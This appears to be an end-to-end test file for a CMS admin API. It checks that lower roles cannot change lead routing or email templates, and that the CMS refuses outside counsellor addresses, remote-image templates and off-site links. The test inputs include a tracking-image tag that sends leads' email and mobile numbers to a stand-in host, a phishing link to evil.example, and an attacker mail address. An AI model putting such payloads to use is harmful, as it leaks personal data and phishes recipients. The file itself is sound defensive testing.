// Insiders of the CMS, against the real one, through the admin panel's own HTTP API as each role's
// browser calls it: an Editor or Author cannot route leads nor touch the mails; the "Lead routing
// manager" can, but only to the institute's mail domains and with templates that neither load
// remote content nor link elsewhere; the site's mailer is not given a row that breaks those rules;
// "Release to sales" honours a role's conditions, not only its permission on the type.
import { expect, test } from '../support/test';
import { adminApi, adminToken, thenRestore, userOfRole } from '../support/cms';
import { E2E } from '../support/ports';
import { leadTokenHeader, withDb } from '../support/stack';

const TYPES = {
  template: 'api::email-template.email-template',
  counsellor: 'api::counsellor-route.counsellor-route',
  channelRule: 'api::channel-rule.channel-rule',
} as const;
const collection = (uid: string) => `${E2E.cmsUrl}/content-manager/collection-types/${uid}`;
const stamp = () => `${Date.now()}${Math.floor(Math.random() * 1000)}`;
const ISSUE_IMAGE = '<img src="https://elsewhere.example/?{{email}}|{{mobileNumber}}|{{confirmUrl}}">';

/** A call to the admin API as one token: the status and the JSON answer (null for none). */
async function call(token: string, url: string, method = 'GET', body?: unknown): Promise<{ status: number; json: { error?: { message?: string }; data?: { documentId?: string } } | null }> {
  const res = await fetch(url, {
    method, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body), signal: AbortSignal.timeout(30_000),
  });
  const text = await res.text();
  return { status: res.status, json: text ? JSON.parse(text) : null };
}

/** What an insider of one role tries on the mail and routing types: each answer's status. */
async function tryRouting(token: string) {
  const super_ = await adminToken();
  // A template no other journey edits, saved with the subject it has: a write that changes nothing.
  const [template] = (await adminApi<{ results: { documentId: string; subject: string }[] }>(super_, `${collection(TYPES.template)}?filters[key][$eq]=ack-data-request`)).results;
  const create = (uid: string, data: unknown) => call(token, collection(uid), 'POST', data);
  const answers = {
    readTemplates: (await call(token, collection(TYPES.template))).status,
    readCounsellors: (await call(token, collection(TYPES.counsellor))).status,
    readChannelRules: (await call(token, collection(TYPES.channelRule))).status,
    addCounsellor: await create(TYPES.counsellor, { match: `/insider-${stamp()}`, email: `me-${stamp()}@example.com` }),
    addChannelRule: await create(TYPES.channelRule, { position: 90_000 + Math.floor(Math.random() * 9_000), channel: 'Mine', sources: '*' }),
    editTemplate: (await call(token, `${collection(TYPES.template)}/${template.documentId}`, 'PUT', { subject: template.subject })).status,
  };
  // Whatever was made is removed again, so a failing run leaves no route behind.
  for (const [uid, made] of [[TYPES.counsellor, answers.addCounsellor], [TYPES.channelRule, answers.addChannelRule]] as const) {
    if (made.json?.data?.documentId) await adminApi(super_, `${collection(uid)}/${made.json.data.documentId}`, { method: 'DELETE' });
  }
  return { ...answers, addCounsellor: answers.addCounsellor.status, addChannelRule: answers.addChannelRule.status };
}

test('an Editor or an Author can neither read nor change where leads go or what the mails say; the Lead routing manager can', async () => {
  const answers = {
    Editor: await tryRouting((await userOfRole('Editor'))!),
    Author: await tryRouting((await userOfRole('Author'))!),
  };
  const refused = { readTemplates: 403, readCounsellors: 403, readChannelRules: 403, addCounsellor: 403, addChannelRule: 403, editTemplate: 403 };
  expect(answers).toEqual({ Editor: refused, Author: refused });
  const manager = await userOfRole('Lead routing manager');
  expect(manager, 'the Lead routing manager role exists').not.toBeNull();
  expect(await tryRouting(manager!)).toEqual({ readTemplates: 200, readCounsellors: 200, readChannelRules: 200, addCounsellor: 201, addChannelRule: 201, editTemplate: 200 });
});

test("a counsellor address outside the institute's mail domains is refused, with the allowed domains named; nothing is stored", async () => {
  const super_ = await adminToken();
  const manager = await userOfRole('Lead routing manager');
  const match = `/insider-${stamp()}`;
  const made: string[] = [];
  const post = async (token: string, email: string) => {
    const answer = await call(token, collection(TYPES.counsellor), 'POST', { match, email });
    if (answer.json?.data?.documentId) made.push(answer.json.data.documentId);
    return answer;
  };
  try {
    // Super Admin first: the rule holds for every role, whoever saves.
    for (const token of [super_, manager]) {
      expect(token, 'the Lead routing manager role exists').not.toBeNull();
      const answer = await post(token!, 'leads@attacker.example');
      expect([answer.status, answer.json?.error?.message]).toEqual([400,
        "A counsellor's address must be at the institute's own mail domain (@example.com): leads@attacker.example is not. An administrator names the domains in COUNSELLOR_MAIL_DOMAINS."]);
    }
    // An address of the institute, changed afterwards to an outside one: refused the same way.
    const ours = await post(manager!, `counsellors-${stamp()}@example.com`);
    expect(ours.status).toBe(201);
    const changed = await call(manager!, `${collection(TYPES.counsellor)}/${ours.json!.data!.documentId}`, 'PUT', { email: 'leads@attacker.example' });
    expect([changed.status, changed.json?.error?.message]).toEqual([400, expect.stringContaining('@example.com')]);
    const rows = await withDb('cms', async (db) => (await db.query('SELECT email FROM counsellor_routes WHERE match = $1', [match])).rows);
    expect(rows).toEqual([{ email: expect.stringMatching(/^counsellors-\d+@example\.com$/) }]);
  } finally {
    for (const documentId of made) await adminApi(super_, `${collection(TYPES.counsellor)}/${documentId}`, { method: 'DELETE' });
  }
});

test('a template that loads a remote image, links elsewhere or puts a value in an address is refused, and the template stays as it was', async () => {
  const super_ = await adminToken();
  const [template] = (await adminApi<{ results: { documentId: string; html: string; text: string }[] }>(super_, `${collection(TYPES.template)}?filters[key][$eq]=ack-data-request`)).results;
  const url = `${collection(TYPES.template)}/${template.documentId}`;
  await thenRestore(async () => {
    // Super Admin: the rule holds for every role, whoever saves.
    const attempts = {
      image: await call(super_, url, 'PUT', { html: `${template.html}\n${ISSUE_IMAGE}` }),
      link: await call(super_, url, 'PUT', { html: `${template.html}\n<p><a href="https://evil.example/verify">Verify your account</a></p>` }),
      valueInLink: await call(super_, url, 'PUT', { html: `${template.html}\n<p><a href="${E2E.siteUrl}/?e={{email}}">more</a></p>` }),
      textLink: await call(super_, url, 'PUT', { text: `${template.text}\nhttps://evil.example/?{{email}}` }),
    };
    expect(Object.fromEntries(Object.entries(attempts).map(([k, a]) => [k, [a.status, a.json?.error?.message]]))).toEqual({
      image: [400, 'The HTML may not carry images or embedded content (<img>): another site would learn who opened the mail.'],
      link: [400, `A link may point only to the site's own address (${E2E.siteUrl}): https://evil.example/verify`],
      valueInLink: [400, expect.stringMatching(/^A link's address may not contain a value such as \{\{email\}\}/)],
      textLink: [400, `The text may name only the site's own address (${E2E.siteUrl}): https://evil.example/?{{email}}`],
    });
    const now = await adminApi<{ data: { html: string; text: string } }>(super_, url);
    expect({ html: now.data.html, text: now.data.text }).toEqual({ html: template.html, text: template.text });
  }, async () => {
    // Put back what a save that should have been refused changed (none, once the rules hold).
    await adminApi(super_, url, { method: 'PUT', body: { html: template.html, text: template.text } });
  });
});

test("the site's mailer is not given a counsellor address or a template that breaks the rules, however it was stored", async () => {
  const match = `/insider-db-${stamp()}`;
  const key = 'ack-lead';
  const mail = async () => (await fetch(`${E2E.cmsUrl}/api/lead-mail`, { headers: leadTokenHeader() })).json() as Promise<{ templates: { key: string }[]; routes: { match: string }[] }>;
  await withDb('cms', async (db) => {
    // Written past the admin (an older row, a direct database edit): the lifecycles never saw it.
    await db.query(`INSERT INTO counsellor_routes (document_id, match, email, created_at, updated_at, published_at)
      VALUES ($1, $2, 'leads@attacker.example', now(), now(), now())`, [`insider${stamp()}`, match]);
    const { rows: [template] } = await db.query('SELECT id, html FROM email_templates WHERE key = $1', [key]);
    await db.query('UPDATE email_templates SET html = $1 WHERE id = $2', [`${template.html}${ISSUE_IMAGE}`, template.id]);
    try {
      const answer = await mail();
      expect(answer.routes.map((r) => r.match)).not.toContain(match);
      expect(answer.routes.length).toBeGreaterThan(0);
      expect(answer.templates.map((t) => t.key).sort()).toEqual(['ack-data-request', 'ack-download', 'alert']);
    } finally {
      await db.query('DELETE FROM counsellor_routes WHERE match = $1', [match]);
      await db.query('UPDATE email_templates SET html = $1 WHERE id = $2', [template.html, template.id]);
    }
  });
});

test("'Release to sales' asks the role's conditions of the lead itself: a role that may edit only the leads it created cannot release one", async () => {
  const super_ = await adminToken();
  const name = `Release probe ${stamp()}`;
  const { data: role } = await adminApi<{ data: { id: number } }>(super_, `${E2E.cmsUrl}/admin/roles`, { method: 'POST', body: { name, description: 'may edit the leads it created' } });
  const onLeads = (action: string) => ({ action: `plugin::content-manager.explorer.${action}`, subject: 'api::lead.lead', properties: { fields: ['held', 'releasedAt', 'email'] }, conditions: ['admin::is-creator'] });
  await adminApi(super_, `${E2E.cmsUrl}/admin/roles/${role.id}/permissions`, { method: 'PUT', body: { permissions: [onLeads('read'), onLeads('update')] } });
  const token = (await userOfRole(name))!;

  // A held lead and one not held, stored by the site's gateway (the lead token): created by no admin.
  const key = `insider-held-${stamp()}`;
  const lead = (tag: string) => ({
    name: 'Held Probe', workExperience: 'College Student', mobileNumber: '+91-98765-43210', email: `${key}-${tag}@example.com`, message: '', state: 'Kerala',
    country: 'India', channel: 'Organic', leadSource: 'Maven', subSource: 'Demo Class', url: `${E2E.siteUrl}/`, oldSource: 'test',
  });
  const stored = await fetch(`${E2E.cmsUrl}/api/lead-batch`, {
    method: 'POST', headers: { ...leadTokenHeader(), 'content-type': 'application/json' },
    body: JSON.stringify({ leads: [
      { key, path: '/api/global-contact-form', held: 'siteverify answered 503', body: { data: lead('held') } },
      { key: `${key}-sent`, path: '/api/global-contact-form', body: { data: lead('sent') } },
    ] }),
  });
  const [held, sent] = (await stored.json()).results;
  expect([held, sent]).toEqual([expect.objectContaining({ status: 200, documentId: expect.any(String) }), expect.objectContaining({ status: 200, documentId: expect.any(String) })]);

  const release = (token: string, documentId: string) => call(token, `${E2E.cmsUrl}/lead-release/${documentId}`, 'POST').then((r) => [r.status, r.json]);
  expect({ held: await release(token, held.documentId), sent: await release(token, sent.documentId) }).toEqual({
    held: [403, { error: 'Your role may not edit this lead' }], sent: [403, { error: 'Your role may not edit this lead' }],
  });
  // Super Admin passes the same check: the lead not held is refused for that reason only.
  expect(await release(super_, sent.documentId)).toEqual([409, { error: 'This lead is not held' }]);
  const rows = await withDb('cms', async (db) => (await db.query('SELECT held, released_at FROM leads WHERE idempotency_key = $1', [key])).rows);
  expect(rows).toEqual([{ held: true, released_at: null }]);
});
